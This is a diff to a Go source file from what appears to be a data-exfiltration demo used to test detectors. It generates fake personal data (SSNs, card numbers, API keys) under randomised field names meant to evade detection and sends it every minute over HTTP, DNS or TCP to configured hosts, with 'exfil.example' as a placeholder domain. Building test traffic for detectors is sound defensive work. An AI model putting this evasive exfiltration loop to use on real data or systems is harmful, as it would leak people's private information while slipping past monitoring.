@@ -1,47 +1,141 @@
 package main
 
 import (
-	"bytes"
 	"crypto/tls"
+	"encoding/json"
 	"log"
 	"net/http"
 	"os"
+	"strconv"
 	"strings"
 	"time"
 
 	stripe "github.com/stripe/stripe-go/v72"
 	"github.com/stripe/stripe-go/v72/customer"
+
+	"px.dev/data-exfiltration-demo/pii"
 )
 
 const exfilPeriod = 1 * time.Minute
 
+// piiFieldNames are the keys each PII field is sent under, picked at random so that detectors
+// can't rely on them.
+var piiFieldNames = map[string][]string{
+	"email":   {"email", "mail", "contact_email"},
+	"phone":   {"phone", "phone_number", "tel", "mobile"},
+	"ssn":     {"ssn", "social_security_number", "tax_id"},
+	"address": {"address", "billing_address", "shipping"},
+	"card":    {"cc", "card", "credit_card", "payment_method"},
+	"iban":    {"iban", "bank_account", "account_number"},
+	"secret":  {"api_key", "token", "credentials"},
+}
+
+// piiRecord returns a record with the name of a fake person and some of their PII, at least
+// one field, under varied keys.
+func piiRecord(g *pii.Generator) map[string]interface{} {
+	r := g.Record()
+	fields := map[string]interface{}{
+		"email":   r.Email,
+		"phone":   r.Phone,
+		"ssn":     r.SSN,
+		"address": r.Address.String(),
+		"card":    r.Card,
+		"iban":    r.IBAN,
+		"secret":  r.Secret,
+	}
+	// Visit the fields in a fixed order, for the payloads to be reproducible from the seed.
+	names := []string{"email", "phone", "ssn", "address", "card", "iban", "secret"}
+	record := map[string]interface{}{"name": r.Name}
+	for len(record) == 1 {
+		for _, name := range names {
+			if g.Intn(2) == 0 {
+				keys := piiFieldNames[name]
+				record[keys[g.Intn(len(keys))]] = fields[name]
+			}
+		}
+	}
+	return record
+}
+
+// maliciousPayload returns a JSON payload of 1 to 3 PII records, either as an object, an array
+// or under a `data` key.
+func maliciousPayload(g *pii.Generator) ([]byte, error) {
+	records := make([]map[string]interface{}, 1+g.Intn(3))
+	for i := range records {
+		records[i] = piiRecord(g)
+	}
+	switch {
+	case len(records) == 1 && g.Intn(2) == 0:
+		return json.Marshal(records[0])
+	case g.Intn(2) == 0:
+		return json.Marshal(records)
+	default:
+		return json.Marshal(map[string]interface{}{"data": records})
+	}
+}
+
 func runMaliciousEgress() {
-	url, exists := os.LookupEnv("EGRESS_URL")
+	// EXFIL_MODES lists the channels the PII is sent over on each period, such as
+	// `post,gzip,dns`. See exfil.go.
+	modesEnv, exists := os.LookupEnv("EXFIL_MODES")
 	if !exists {
-		log.Fatal("Must specify EGRESS_URL in environment to run malicious egress. See README.md.")
+		modesEnv = "post"
+	}
+	modes, err := parseExfilModes(modesEnv)
+	if err != nil {
+		log.Fatalf("Invalid EXFIL_MODES: %v", err)
 	}
 
-	jsonData := []byte(`{
-	  "name": "Pixie Pixienaut",
-	  "cc":"5105-1051-0510-5100",
-	  "phone":"555-555-0100"
-	}`)
-
-	client := &http.Client{
-		Transport: &http.Transport{
-			TLSNextProto:       map[string]func(string, *tls.Conn) http.RoundTripper{},
-			DisableCompression: true,
+	c := &exfilConfig{
+		client: &http.Client{
+			Transport: &http.Transport{
+				TLSNextProto:       map[string]func(string, *tls.Conn) http.RoundTripper{},
+				DisableCompression: true,
+			},
 		},
+		dnsServer: os.Getenv("EXFIL_DNS_SERVER"),
+		dnsDomain: os.Getenv("EXFIL_DNS_DOMAIN"),
+		tcpAddr:   os.Getenv("EXFIL_TCP_ADDR"),
+	}
+	if c.dnsDomain == "" {
+		c.dnsDomain = "exfil.example"
+	}
+	for _, m := range modes {
+		switch {
+		case m.http && c.url == "":
+			url, exists := os.LookupEnv("EGRESS_URL")
+			if !exists {
+				log.Fatal("Must specify EGRESS_URL in environment to run malicious egress. See README.md.")
+			}
+			c.url = url
+		case m.name == "tcp" && c.tcpAddr == "":
+			log.Fatal("Must specify EXFIL_TCP_ADDR in environment to run tcp malicious egress. See README.md.")
+		}
 	}
 
+	// The payloads can be reproduced by setting PII_SEED to the seed of a previous run.
+	seed := time.Now().UnixNano()
+	if s, exists := os.LookupEnv("PII_SEED"); exists {
+		var err error
+		if seed, err = strconv.ParseInt(s, 10, 64); err != nil {
+			log.Fatalf("Invalid PII_SEED %q: %v", s, err)
+		}
+	}
+	log.Printf("Generating PII with seed %d", seed)
+	g := pii.New(seed)
+
 	t := time.NewTicker(exfilPeriod)
 	for range t.C {
-		resp, err := client.Post(url, "application/json", bytes.NewReader(jsonData))
-		if err != nil {
-			log.Printf("Error: %v", err)
-			continue
+		for _, m := range modes {
+			jsonData, err := maliciousPayload(g)
+			if err != nil {
+				log.Printf("Error: %v", err)
+				continue
+			}
+			if err := m.send(c, jsonData); err != nil {
+				log.Printf("Error (%s): %v", m.name, err)
+			}
 		}
-		log.Printf("POST returned code: %d", resp.StatusCode)
 	}
 }
 